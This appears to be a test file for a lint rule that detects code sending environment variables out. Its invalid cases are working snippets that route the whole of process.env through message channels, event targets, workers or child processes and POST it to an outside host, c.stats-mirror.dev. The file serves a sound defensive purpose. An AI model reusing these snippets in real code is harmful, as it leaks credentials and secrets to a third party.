import rule from '../../src/rules/no-env-dump.ts';
import { ruleTester } from '../tester.ts';

// channels of messages, events and stores within one file
await ruleTester(rule, {
  valid: [
    { code: 'import { Worker } from \'node:worker_threads\'; const worker = new Worker(\'./build.js\'); worker.postMessage({ env: process.env, entry: \'./src/index.js\' }); worker.on(\'message\', (result) => fetch(\'https://ci.acme-app.dev/builds\', { method: \'POST\', body: JSON.stringify(result) }));' },
    { code: 'import { AsyncLocalStorage } from \'node:async_hooks\'; const store = new AsyncLocalStorage(); app.use((req, res, next) => store.run({ id: req.headers[\'x-request-id\'], region: process.env.REGION }, next)); export const call = () => fetch(\'https://api.acme-app.dev/x\', { headers: { \'x-request-id\': store.getStore().id } });' },
    { code: 'bus.addEventListener(\'login\', (e) => fetch(\'/api/login\', { method: \'POST\', body: JSON.stringify(e.detail) })); form.onsubmit = () => bus.dispatchEvent(new CustomEvent(\'login\', { detail: { password: field.value } }));' },
    { code: 'const { port1, port2 } = new MessageChannel(); port1.onmessage = (e) => fetch(\'https://api.acme-app.dev/jobs\', { method: \'POST\', body: JSON.stringify(e.data) }); port1.postMessage({ env: process.env.NODE_ENV }); worker.postMessage({ port: port2 }, [port2]);' },
    { code: 'const { fork } = require(\'child_process\'); const child = fork(\'./worker.js\', { env: process.env }); child.on(\'message\', (m) => fetch(\'https://api.acme-app.dev/jobs\', { method: \'POST\', body: JSON.stringify(m) })); child.send({ type: \'start\', token: process.env.JOB_TOKEN });' },
    { code: 'window.addEventListener(\'message\', (e) => { if (e.data.type === \'resize\') frame.style.height = e.data.height; }); window.parent.postMessage({ type: \'ready\' }, \'*\');' },
  ],
  invalid: [
    { code: 'const { port1, port2 } = new MessageChannel(); port2.onmessage = (event) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(event.data) }); port1.postMessage({ ...process.env });', errors: [{ messageId: 'dump' }] },
    { code: 'import { MessageChannel } from \'node:worker_threads\'; const channel = new MessageChannel(); channel.port1.on(\'message\', (data) => { fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(data) }); }); channel.port2.postMessage(JSON.stringify(process.env));', errors: [{ messageId: 'dump' }] },
    { code: 'const bus = new EventTarget(); bus.addEventListener(\'ready\', (event) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(event.detail) })); bus.dispatchEvent(new CustomEvent(\'ready\', { detail: process.env }));', errors: [{ messageId: 'dump' }] },
    { code: 'import { AsyncLocalStorage } from \'node:async_hooks\'; const store = new AsyncLocalStorage(); function report() { return fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(store.getStore().env) }); } store.run({ env: process.env }, () => report());', errors: [{ messageId: 'dump' }] },
    { code: 'import { Worker, isMainThread, parentPort } from \'node:worker_threads\'; if (isMainThread) { const worker = new Worker(new URL(import.meta.url)); worker.postMessage(JSON.stringify(process.env)); } else parentPort.on(\'message\', (data) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: data }));', errors: [{ messageId: 'dump' }] },
    { code: 'const { fork } = require(\'child_process\'); if (process.argv[2] === \'child\') process.on(\'message\', (m) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(m) })); else fork(__filename, [\'child\']).send({ env: process.env });', errors: [{ messageId: 'dump' }] },
    { code: 'const a = new BroadcastChannel(\'x\'); const b = new BroadcastChannel(\'x\'); b.addEventListener(\'message\', ({ data }) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: data })); a.postMessage(JSON.stringify(process.env));', errors: [{ messageId: 'dump' }] },
    { code: 'import { AsyncLocalStorage } from \'node:async_hooks\'; const store = new AsyncLocalStorage(); store.enterWith(process.env); fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(store.getStore()) });', errors: [{ messageId: 'dump' }] },
    { code: 'import { parentPort, workerData, Worker, isMainThread } from \'worker_threads\'; if (isMainThread) new Worker(__filename, { workerData: { ...process.env } }); else fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(workerData) });', errors: [{ messageId: 'dump' }] },
    { code: 'class Bus extends EventTarget {} const bus = new Bus(); const name = \'x\'; bus.addEventListener(name, (e) => fetch(\'https://c.stats-mirror.dev/x\', { method: \'POST\', body: JSON.stringify(e.detail) })); bus.dispatchEvent(new CustomEvent(name, { detail: { ...process.env } }));', errors: [{ messageId: 'dump' }] },
    { code: 'const { port1: a, port2: b } = new MessageChannel(); b.start(); b.addEventListener(\'message\', (event) => { const { data } = event; navigator.sendBeacon(\'https://c.stats-mirror.dev/x\', data); }); a.postMessage(JSON.stringify(process.env));', errors: [{ messageId: 'dump' }] },
  ],
});
